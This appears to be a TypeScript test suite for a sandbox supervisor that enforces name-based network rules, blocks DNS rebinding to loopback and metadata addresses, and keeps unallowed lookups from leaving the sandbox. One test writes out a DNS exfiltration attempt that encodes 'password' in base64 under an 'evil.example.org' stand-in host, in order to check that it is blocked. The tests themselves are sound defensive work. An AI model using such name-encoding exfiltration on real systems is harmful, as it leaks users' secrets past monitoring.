/**
 * Host names under supervision, from inside of a network of its own (see `supervisor-net-names.test.ts`): a name server
 * on 203.0.113.53, services on other addresses, and real programs that ask and connect.
 */

import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { runChild } from '../../kit/child.ts';
import { startNameServer, type TestNameServer, type Zone } from '../../kit/name-server.ts';
import { findTool, root } from '../../kit/needs.ts';
import { byAddress, byName, grants, netRule } from '../../kit/net-rules.ts';
import { supervised } from '../../kit/supervised.ts';

const ZONE: Zone = {
  'api.example.com': { a: ['203.0.113.10'], aaaa: ['2001:db8::10'] },
  'alias.example.com': { alias: 'api.example.com' },
  'a.wild.example.net': { a: ['203.0.113.11'] },
  'secret.example.org': { a: ['203.0.113.12'] },
  'rebind.example.com': { a: ['127.0.0.1'] },
  'mixed.example.com': { a: ['203.0.113.10', '169.254.169.254'] },
  'six.example.com': { aaaa: ['::1'] },
  'mapped.example.com': { aaaa: ['::ffff:127.0.0.1'.replace('127.0.0.1', '7f00:1')] },
  'any.example.com': { a: ['0.0.0.0'] },
  'inner.example.com': { a: ['10.1.2.3'] },
};
const PORT = 8080;
const names = [
  'api.example.com',
  'alias.example.com',
  '*.wild.example.net',
  'rebind.example.com',
  'mixed.example.com',
  'six.example.com',
  'mapped.example.com',
  'any.example.com',
  'inner.example.com',
  'hosted.example.com',
];
const layers = grants(
  ...names.map((name) => netRule('allow', 'net.connect_tcp', byName(name), PORT)),
  netRule('allow', 'net.connect_tcp', byAddress('203.0.113.99'), PORT),
);
const groups = ['connect', 'bind', 'send', 'receive'] as const;
const env = { PATH: process.env.PATH!, HOME: '/' };

let dns: TestNameServer;
const servers: Server[] = [];
const folder = mkdtempSync(join(tmpdir(), 'landward-names-'));

async function serve(address: string): Promise<void> {
  const server = createServer((stream) => {
    stream.on('error', () => {});
    stream.end(`HTTP/1.0 200 OK\r\nContent-Length: ${address.length}\r\n\r\n${address}`);
  });
  server.listen(PORT, address);
  await once(server, 'listening');
  servers.push(server);
}

before(async () => {
  dns = await startNameServer('203.0.113.53', ZONE);
  for (const address of [
    '203.0.113.10',
    '203.0.113.11',
    '203.0.113.12',
    '203.0.113.20',
    '203.0.113.99',
    '2001:db8::10',
    '127.0.0.1',
    '::1',
    '10.1.2.3',
  ])
    await serve(address);
});

after(async () => {
  for (const server of servers) server.close();
  await dns.close();
  rmSync(folder, { recursive: true });
});

async function run(
  argv: readonly [string, ...string[]],
  more: Partial<Parameters<typeof supervised>[0]> = {},
) {
  const result = await supervised({ layers, names, groups, ...more }, argv, { env, timeout: 30_000 });
  assert.deepEqual(result.defects, []);
  return result;
}

const curl = (host: string, ...args: string[]) =>
  run(['curl', '-sS', '-m', '8', ...args, `http://${host}:${PORT}/`]);
const hiddenNames = (result: Awaited<ReturnType<typeof run>>) =>
  result.events.flatMap(({ object, errno }) =>
    object.kind === 'net' && errno === 2 && !object.name?.endsWith('.example.com.example.com')
      ? [object.name]
      : [],
  );

test('curl reaches a name that is allowed, by both families, by an alias and by a wildcard', async () => {
  assert.equal((await curl('api.example.com', '-4')).stdout, '203.0.113.10');
  assert.equal((await curl('api.example.com', '-6')).stdout, '2001:db8::10');
  assert.equal((await curl('alias.example.com', '-4')).stdout, '203.0.113.10');
  assert.equal((await curl('a.wild.example.net', '-4')).stdout, '203.0.113.11');
});

test('a name that no rule allows is not asked for outside, and is told of', async () => {
  const before = dns.asked.length;
  const result = await curl('secret.example.org');
  assert.equal(result.status, 6, result.stderr);
  assert.ok(hiddenNames(result).includes('secret.example.org'));
  assert.ok(!dns.asked.slice(before).some((line) => line.startsWith('secret')), dns.asked.join());
  // The bytes of a name are a way out: whatever a program asks for stays here.
  const told = await run(['getent', 'ahosts', 'cGFzc3dvcmQ.evil.example.org']);
  assert.equal(told.status, 2);
  assert.ok(!dns.asked.some((line) => line.includes('evil')));
});

test('addresses by themselves need a rule of their own', async () => {
  assert.equal((await curl('203.0.113.99')).stdout, '203.0.113.99');
  for (const address of ['203.0.113.12', '127.0.0.1', '[::1]', '[::ffff:203.0.113.12]', '0.0.0.0']) {
    const result = await curl(address);
    assert.equal(result.stdout, '', address);
    assert.ok(
      result.events.some(({ missing }) => missing.includes('net.connect_tcp')),
      address,
    );
  }
});

test('answers that point at this host or network are not believed', async () => {
  for (const name of ['rebind', 'mixed', 'six', 'mapped', 'any', 'inner']) {
    const result = await curl(`${name}.example.com`);
    assert.equal(result.stdout, '', name);
    assert.deepEqual(new Set(hiddenNames(result)), new Set([`${name}.example.com`]), name);
  }
  const allowed = grants(
    netRule('allow', 'net.connect_tcp', byName('inner.example.com'), PORT),
    netRule('allow', 'net.connect_tcp', byAddress('10.0.0.0', 8), PORT),
  );
  const result = await run(['curl', '-sS', '-m', '8', `http://inner.example.com:${PORT}/`], {
    layers: allowed,
  });
  assert.equal(result.stdout, '10.1.2.3');
});

test('the hosts file counts, and is believed', async () => {
  assert.equal((await curl('hosted.example.com')).stdout, '203.0.113.20');
});

test('Node asks by both of its ways', async () => {
  const script = `
    const dns = require('node:dns').promises, net = require('node:net');
    const told = (promise) => promise.then((found) => found, (error) => error.code);
    (async () => {
      console.log(JSON.stringify([
        await told(dns.resolve4('api.example.com')), await told(dns.resolve6('api.example.com')),
        await told(dns.resolve4('secret.example.org')), await told(dns.lookup('a.wild.example.net', 4)),
        await told(dns.lookup('secret.example.org')),
        await new Promise((done) => net.connect(${PORT}, 'api.example.com').on('data', (d) => done(String(d).split('\\r\\n\\r\\n')[1]))
          .on('error', (e) => done(e.code))),
      ]));
    })();`;
  const result = await run([process.execPath, '-e', script]);
  assert.equal(result.status, 0, result.stderr);
  const [four, six, secret, wild, lookup, got] = JSON.parse(result.stdout);
  assert.deepEqual(
    [four, six, secret, lookup],
    [['203.0.113.10'], ['2001:db8::10'], 'ENOTFOUND', 'ENOTFOUND'],
  );
  assert.equal(wild.address, '203.0.113.11');
  assert.ok(['203.0.113.10', '2001:db8::10'].includes(got), got);
});

/** Asks with packets of its own: over TCP, with EDNS, unconnected, and tells who seems to have answered. */
const RAW = `
import socket, struct, sys
def query(name, edns):
    q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 1 if edns else 0)
    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
    return q + (b'\\0' + struct.pack('>HHIH', 41, 1232, 0x8000, 0) if edns else b'')
def show(d): return '%d %d %d' % (struct.unpack('>H', d[:2])[0], d[3] & 15, struct.unpack('>H', d[6:8])[0])
server = ('203.0.113.53', 53)
for name in sys.argv[1:]:
    for edns in (False, True):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(query(name, edns), server)
        d, sender = u.recvfrom(2048)
        print(name, 'from', sender[0], sender[1], show(d))
        d, sender = None, None
        u.sendmsg([query(name, edns)[:5], query(name, edns)[5:]], [], 0, server)
        d, _, _, sender = u.recvmsg(2048)
        print(name, 'from', sender[0], sender[1], show(d))
    t = socket.socket()
    t.connect(server)
    q = query(name, False)
    t.sendall(struct.pack('>H', len(q)) + q)
    d = t.recv(2)
    print(name, 'tcp', show(t.recv(struct.unpack('>H', d)[0])))
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.sendto(query(name, False), ('::ffff:203.0.113.53', 53))
    d, sender = s.recvfrom(2048)
    print(name, 'from', sender[0], sender[1], show(d))
`;

test('answers seem to come from the server that was asked, over UDP, TCP and with EDNS', async () => {
  const result = await run(['python3', '-c', RAW, 'api.example.com', 'secret.example.org']);
  const lines = (name: string, outcome: string) => [
    ...new Array<string>(4).fill(`${name} from 203.0.113.53 53 ${outcome}`),
    `${name} tcp ${outcome}`,
    `${name} from ::ffff:203.0.113.53 53 ${outcome}`,
  ];
  const wanted = [...lines('api.example.com', '7 0 1'), ...lines('secret.example.org', '7 3 0')];
  assert.equal(result.stdout, `${wanted.join('\n')}\n`, result.stderr);
});

test('a name server that rules allow by its address is asked for every name', async () => {
  const open = grants(
    ...names.map((name) => netRule('allow', 'net.connect_tcp', byName(name), PORT)),
    netRule('allow', 'net.connect_send_udp', byAddress('203.0.113.53'), 53),
  );
  const result = await run(['getent', 'ahostsv4', 'secret.example.org'], { layers: open });
  assert.match(result.stdout, /203\.0\.113\.12/);
  assert.equal(
    (await run(['curl', '-sS', '-m', '8', `http://secret.example.org:${PORT}/`], { layers: open })).stdout,
    '',
  );
  assert.equal(
    (await run(['curl', '-sS4', '-m', '8', `http://api.example.com:${PORT}/`], { layers: open })).stdout,
    '203.0.113.10',
  );
});

test('other name servers, and other ports of this one, are hosts like any other', async () => {
  const script = `
import socket
for address in (('203.0.113.12', 53), ('203.0.113.53', 5353), ('127.0.0.1', 53)):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        s = socket.socket(socket.AF_INET, kind)
        try: s.connect(address); print('connected', address, kind)
        except OSError as e: print(e.errno)
`;
  const result = await run(['python3', '-c', script]);
  assert.equal(result.stdout, '13\n'.repeat(6));
});

for (const [libc, compiler] of [
  ['glibc', 'cc'],
  ['musl', 'musl-gcc'],
] as const) {
  const skip = findTool(compiler) === undefined ? { skip: `needs ${compiler}, which is not installed` } : {};
  test(`a static program of ${libc} resolves and connects`, skip, async () => {
    const program = join(folder, `resolve-${libc}`);
    const built = spawnSync(
      compiler,
      ['-static', '-O1', '-w', '-o', program, join(root, 'test/fixtures/resolve.c')],
      { encoding: 'utf8' },
    );
    assert.equal(built.status, 0, built.stderr);
    const result = await run([
      program,
      `api.example.com:${PORT}`,
      `secret.example.org:${PORT}`,
      `rebind.example.com:${PORT}`,
    ]);
    const [first, ...rest] = result.stdout.trimEnd().split('\n');
    assert.match(first!, /^api\.example\.com: HTTP/);
    assert.deepEqual(
      rest.filter((line) => line.includes(': no name')),
      ['secret.example.org: no name', 'rebind.example.com: no name'],
    );
  });
}

test('a compiled policy holds the ports in the kernel, and lets names be asked by UDP and TCP', async () => {
  const policy = (more: string) =>
    `extends = ["@shell"]\n[net]\nconnect = ["tcp:api.example.com:${PORT}"]\n${more}`;
  const asked = async (more: string, ...argv: [string, ...string[]]) => {
    return await supervised({ policy: policy(more) }, argv, { env, timeout: 30_000, cwd: '/' });
  };
  const found = await asked('', 'curl', '-sS4', '-m', '8', `http://api.example.com:${PORT}/`);
  assert.equal(found.stdout, '203.0.113.10', found.stderr);
  const overTcp = await asked(
    '[env]\nset = { RES_OPTIONS = "use-vc" }',
    'getent',
    'ahostsv4',
    'api.example.com',
  );
  assert.match(overTcp.stdout, /^203\.0\.113\.10/, overTcp.stderr);
  for (const place of ['secret.example.org', '203.0.113.12', '203.0.113.10', '127.0.0.1']) {
    const result = await asked('', 'curl', '-sS4', '-m', '8', `http://${place}:${PORT}/`);
    // The address of the allowed name is known by the name, whoever says it.
    assert.equal(result.stdout, place === '203.0.113.10' ? place : '', place);
  }
});

test('a trial asks every name, and tells which would be refused', async () => {
  const policy = join(folder, 'trial.toml');
  writeFileSync(policy, `extends = ["@shell"]\n[net]\nconnect = ["tcp:api.example.com:${PORT}"]\n`);
  const landward = join(root, 'test/kit/landward.ts');
  const tried = (host: string, state: string) =>
    runChild(
      process.execPath,
      [landward, 'run', '-p', policy, '--trial', '--', 'curl', '-sS4', '-m', '8', `http://${host}:${PORT}/`],
      { env: { ...env, HOME: folder, XDG_STATE_HOME: join(folder, state) }, cwd: folder },
    );
  const found = await tried('api.example.com', 'found');
  assert.equal(found.stdout, '203.0.113.10', found.stderr);
  assert.ok(!found.stderr.includes('would be denied'), found.stderr);
  const refused = await tried('secret.example.org', 'refused');
  assert.equal(refused.stdout, '203.0.113.12', refused.stderr);
  assert.match(refused.stderr, /would be denied net\.connect_tcp for secret\.example\.org \(/);
  assert.match(refused.stderr, /would be denied net\.connect_tcp for secret\.example\.org port 8080/);
  assert.ok(!refused.stderr.includes('port 53'), refused.stderr);
});

test('search domains are tried as ever', async () => {
  assert.equal((await curl('api', '-4')).stdout, '203.0.113.10');
});

test(
  'a name server of another make is understood',
  findTool('dnsmasq') === undefined ? { skip: 'needs dnsmasq, which is not installed' } : {},
  async () => {
    await dns.close();
    const hosts = Object.entries(ZONE).flatMap(([name, { a = [], aaaa = [] }]) =>
      [...a, ...aaaa].flatMap((address) => ['--host-record', `${name},${address}`]),
    );
    const child = spawn(
      'dnsmasq',
      [
        '-k',
        '-C',
        '/dev/null',
        '-R',
        '-h',
        '--listen-address=203.0.113.53',
        '--bind-interfaces',
        '--user=root',
        '--pid-file=',
        '--log-facility=-',
        ...hosts,
      ],
      { stdio: ['ignore', 'ignore', 'pipe'] },
    );
    try {
      await once(child.stderr, 'data');
      assert.equal((await curl('a.wild.example.net', '-4')).stdout, '203.0.113.11');
      assert.equal((await curl('api.example.com', '-6')).stdout, '2001:db8::10');
      assert.equal((await curl('rebind.example.com')).stdout, '');
    } finally {
      child.kill();
      await once(child, 'exit');
      dns = await startNameServer('203.0.113.53', ZONE);
    }
  },
);
